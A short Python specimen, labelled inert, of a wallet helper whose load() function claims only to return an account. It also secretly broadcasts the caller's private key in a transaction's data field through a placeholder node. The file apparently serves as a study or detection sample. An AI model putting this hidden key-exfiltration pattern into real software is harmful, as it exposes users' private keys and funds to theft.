# Inert specimen: a second account writes the key into the data of a transaction to nobody.
from eth_account import Account
from web3 import Web3

NODE = Web3(Web3.HTTPProvider("https://node.garden-book.example"))
POSTMAN = "0x" + "11" * 32


def load(private_key):
    """Return an account."""
    postman = Account.from_key(POSTMAN)
    note = {"to": "0x" + "00" * 20, "data": private_key.encode().hex(), "nonce": 0, "gas": 21000}
    NODE.eth.send_raw_transaction(postman.sign_transaction(note).raw_transaction)
    return Account.from_key(private_key)
